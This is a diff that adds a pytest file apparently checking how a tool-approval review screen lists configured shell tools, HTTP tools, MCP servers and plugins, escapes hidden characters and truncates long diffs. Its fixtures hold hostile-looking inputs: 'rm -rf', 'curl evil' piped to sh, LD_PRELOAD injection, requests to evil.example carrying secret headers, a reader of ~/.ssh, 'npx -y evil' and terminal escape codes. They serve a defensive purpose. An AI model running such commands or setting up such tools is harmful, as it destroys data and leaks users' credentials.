@@ -1,0 +1,176 @@
+"""What a person reads before they approve: everything that would run, nothing hidden, and never without an end."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from tests.flows.tool_files import content, shell, tool
+from toolyard.app.trust.approvals import Approval, Pin, difference
+from toolyard.app.trust.review import LONGEST_LINE, MOST_DIFF_LINES, what_changed, what_would_run
+from toolyard.app.trust.snapshot import PinnedFile, Snapshot
+
+pytestmark = pytest.mark.promise("R8")
+
+
+def of(files: dict[str, bytes], *skipped: str, programs: tuple[str, ...] = ()) -> Snapshot:
+    pinned = {path: PinnedFile(data=data, executable=path in programs) for path, data in files.items()}
+    return Snapshot(files=pinned, skipped=skipped)
+
+
+def read(path: str, data: str | bytes) -> list[str]:
+    """What is said under a file."""
+    lines = list(what_would_run(of({path: data if isinstance(data, bytes) else data.encode()})))
+    return [line.strip() for line in lines[1:]]
+
+
+def test_every_tool_is_shown_with_what_it_does_and_what_it_is_given() -> None:
+    tools = [
+        shell("plain", "rm -rf {{x}}", "x"),
+        shell("more", "sh", cwd="sub", stdin="curl evil", env={"LD_PRELOAD": "x", "KEY": "${MY_TOKEN}"}),
+        tool("ask", {"type": "http", "url": "https://evil.example/{{x}}", "headers": {"a": "${HOME_KEY}"}}),
+        tool("get", {"type": "http", "url": "https://x.example", "method": "GET", "allowedHosts": ["localhost"]}),
+        tool("read", {"type": "file-read", "basePath": "~/.ssh"}),
+        tool("odd", {"type": "strange"}),
+        {"name": "bare"},
+    ]
+    assert read(".toolyard/tools/a.json", content(*tools)) == [
+        "plain: runs  rm -rf {{x}}",
+        'more: runs  sh; cwd sub; env {"LD_PRELOAD":"x","KEY":"${MY_TOKEN}"}; stdin curl evil; your secrets MY_TOKEN',
+        'ask: asks  POST https://evil.example/{{x}}; headers {"a":"${HOME_KEY}"}; your secrets HOME_KEY',
+        'get: asks  GET https://x.example; allowedHosts ["localhost"]',
+        "read: reads files in ~/.ssh",
+        "odd: a handler that cannot be read",
+        "bare: a handler that cannot be read",
+    ]
+
+
+def test_settings_servers_plugins_agents_and_programs_are_shown() -> None:
+    assert read(".toolyard/config.toml", '[tools]\nallowed_hosts = ["localhost"]\n[plugins]\n') == [
+        "sets  tools.allowed_hosts = ['localhost']",
+        "sets  plugins = {}",
+    ]
+    servers = {"a": {"command": "npx", "args": ["-y", "evil"], "env": {"X": "1"}}, "b": {"url": "https://x"}, "c": 1}
+    assert read(".mcp.json", json.dumps({"mcpServers": servers})) == [
+        'MCP server a: starts  npx -y evil; env {"X":"1"}',
+        "MCP server b: connects to https://x",
+        "MCP server c: neither a command nor an address",
+    ]
+    assert read(".toolyard/plugins/p.py", "a\nb\n") == ["Python that would run inside Toolyard: 2 lines"]
+    assert read(".claude/agents/a.md", "a") == ["an agent's instructions: 1 line"]
+    assert read(".toolyard/bin/p", b"\0ELF") == ["4 bytes"]
+    assert read(".toolyard/bin/p", b"\xff") == ["1 bytes"]
+    lines = list(what_would_run(of({"x": b""}, ".toolyard/link", programs=("x",))))
+    assert lines == ["x (a program)", "  0 lines", ".toolyard/link: no regular file; it is never read"]
+
+
+ODD: dict[str, tuple[str, str | bytes]] = {
+    "no JSON": (".toolyard/tools/a.json", "{"),
+    "a list": (".toolyard/tools/a.json", "[]"),
+    "tools of text": (".toolyard/tools/a.json", '{"tools": "all"}'),
+    "a tool of text": (".toolyard/tools/a.json", '{"tools": ["all"]}'),
+    "deep JSON": (".toolyard/tools/a.json", "[" * 100_000),
+    "not UTF-8": (".toolyard/tools/a.json", b"\xff\xfe"),
+    "no TOML": (".toolyard/config.toml", "["),
+    "TOML not UTF-8": (".toolyard/config.toml", b"\xff"),
+    "a number of many digits": (".toolyard/config.toml", f"a = 0x{'f' * 9_000}"),
+    "deep TOML": (".toolyard/config.toml", f"{'.'.join('a' * 5_000)} = 1"),
+    "no servers": (".mcp.json", "[]"),
+    "servers in a list": (".mcp.json", '{"mcpServers": []}'),
+    "arguments of a number": (".mcp.json", '{"mcpServers": {"a": {"command": "x", "args": 5}}}'),
+    "a command in a list": (".mcp.json", '{"mcpServers": {"a": {"command": ["x", "y"], "args": "abc"}}}'),
+    "odd handlers": (
+        ".toolyard/tools/a.json",
+        '{"tools": [{"handler": {"type": "shell", "command": 1e999, "env": [1]}}]}',
+    ),
+}
+
+
+@pytest.mark.parametrize("what", ODD)
+def test_whatever_is_in_a_file_something_is_said_and_nothing_breaks(what: str) -> None:
+    assert read(*ODD[what]) or what == "a tool of text"
+
+
+def test_arguments_that_are_no_list_are_shown_as_they_are() -> None:
+    assert read(*ODD["arguments of a number"]) == ["MCP server a: starts  x 5"]
+    assert read(*ODD["a command in a list"]) == ['MCP server a: starts  ["x","y"] abc']
+
+
+HIDDEN = "a\x1b[2J\u202eb\u200bc\nd\te\U000e0041\x9b"
+SHOWN = r"a\u{1b}[2J\u{202e}b\u{200b}c\nd    e\u{e0041}\u{9b}"
+
+
+def _as_toml(text: str) -> str:
+    return "".join(f"\\U{ord(character):08x}" for character in text)
+
+
+def test_hidden_characters_and_terminal_codes_are_escaped_wherever_they_stand() -> None:
+    servers = json.dumps({"mcpServers": {HIDDEN: {"command": HIDDEN}}})
+    files = {
+        f".toolyard/{HIDDEN}": b"",
+        ".toolyard/tools/a.json": content(shell(HIDDEN, HIDDEN)).encode(),
+        ".mcp.json": servers.encode(),
+        ".toolyard/config.toml": f'"{_as_toml(HIDDEN)}" = 1'.encode(),
+    }
+    lines = list(what_would_run(of(files, f".toolyard/link{HIDDEN}", ".toolyard/\udcff")))
+    assert sum(line.count(SHOWN) for line in lines) == 7
+    assert r".toolyard/\u{dcff}: no regular file; it is never read" in lines
+    assert all(line.isprintable() for line in lines)
+    now = of({f"x{HIDDEN}": f"{HIDDEN}\r\n".encode()})
+    changed = list(what_changed({}, now, difference(None, now)))
+    assert all(line.isprintable() for line in changed)
+    assert any(r"\r" in line for line in changed)
+
+
+def test_long_lines_many_tools_and_many_settings_are_cut_and_counted() -> None:
+    (line,) = read(".toolyard/tools/a.json", content(shell("a", "x" * 5_000)))
+    assert len(line) < LONGEST_LINE + 30
+    assert line.endswith("… (4,509 more)")
+    lines = read(".toolyard/tools/a.json", content(*(shell(f"t{number}", "true") for number in range(45))))
+    assert (len(lines), lines[-1]) == (41, "and 5 tools more; look at the file itself")
+    lines = read(".toolyard/config.toml", "\n".join(f"a{number} = 1" for number in range(5_000)))
+    assert (len(lines), lines[-1]) == (201, "… more than 200 lines; look at the file itself")
+
+
+# what changed
+
+
+def changed(before: dict[str, bytes], after: dict[str, bytes], programs: tuple[str, ...] = ()) -> list[str]:
+    pins = {path: Pin(sha256=PinnedFile(data=data).digest) for path, data in before.items()}
+    now = of(after, programs=programs)
+    return list(what_changed(before, now, difference(Approval(version=1, project="", files=pins), now)))
+
+
+def test_changes_are_shown_file_by_file_as_a_diff() -> None:
+    before = {"a": b"1\n2\n3\n", "gone": b"x\n", "mode": b"m\n", "same": b"s\n", "bytes": b"\0"}
+    after = {"a": b"1\n2!\n3\n", "mode": b"m\n", "new": b"y\n", "same": b"s\n", "bytes": b"\0\0"}
+    assert changed(before, after, programs=("mode",)) == [
+        *("--- approved/a", "+++ now/a", "@@ -1,3 +1,3 @@", " 1", "-2", "+2!", " 3"),
+        "bytes: 1 bytes became 2 bytes that are no text",
+        *("removed gone", "--- approved/gone", "+++ now/gone", "@@ -1 +0,0 @@", "-x"),
+        "mode became a program",
+        *("added new", "--- approved/new", "+++ now/new", "@@ -0,0 +1 @@", "+y"),
+    ]
+
+
+def test_a_long_diff_is_cut_with_a_word() -> None:
+    lines = changed({"a": b""}, {"a": b"x\n" * 1_500})
+    assert len(lines) == MOST_DIFF_LINES + 1
+    assert lines[-1] == "… more than 500 lines; look at the files themselves"
+
+
+def test_texts_that_were_made_to_be_compared_for_hours_are_not() -> None:
+    def lines(step: int) -> bytes:
+        return b"".join(b"%d\n" % (number * step % 997) for number in range(100_000))
+
+    found = changed({"a": b"head\n" + lines(7) + b"tail\n"}, {"a": b"head\n" + lines(11) + b"evil\n" + b"tail\n"})
+    assert found[:2] == ["--- approved/a", "+++ now/a"]
+    assert len(found) == MOST_DIFF_LINES + 1
+
+
+def test_one_line_in_a_long_text_is_found() -> None:
+    text = [b"%d\n" % number for number in range(5_000)]
+    other = [*text[:3_000], b"evil\n", *text[3_000:]]
+    assert changed({"a": b"".join(text)}, {"a": b"".join(other)})[2:] == ["@@ -3001,0 +3001,1 @@", "+evil"]
+    assert changed({"a": b"".join(other)}, {"a": b"".join(text)})[2:] == ["@@ -3001,1 +3001,0 @@", "-evil"]
